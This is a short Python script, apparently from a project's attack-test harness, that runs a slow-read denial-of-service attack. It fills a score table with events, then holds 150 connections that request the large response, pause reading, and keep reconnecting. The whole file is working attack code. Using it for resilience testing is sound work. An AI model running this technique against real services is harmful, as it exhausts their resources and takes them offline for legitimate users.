"""150 connections ask for a score pad of 3.8 MB and read nothing of it."""

import asyncio
from contextlib import suppress
from typing import cast

from attackers import SOURCES, long_table, raw

EVENTS, CONNECTIONS = 19_500, 150


async def attack(address: str) -> None:
    """Runs until cancelled."""
    table = await long_table(address, EVENTS)
    print("  it is filled", flush=True)
    await asyncio.gather(*(_ask(address, table) for _ in range(CONNECTIONS)))


async def _ask(address: str, table: str) -> None:
    # Reconnects as soon as it is disconnected.
    while True:
        with suppress(OSError):
            _, writer = await raw(address, SOURCES[0])
            cast(asyncio.Transport, writer.transport).pause_reading()  # a socket reads and writes
            writer.write(f"GET /api/tables/{table}/events HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
            while True:
                await asyncio.sleep(5)
                writer.write(b"\r\n")  # fails once the connection is closed
                await writer.drain()
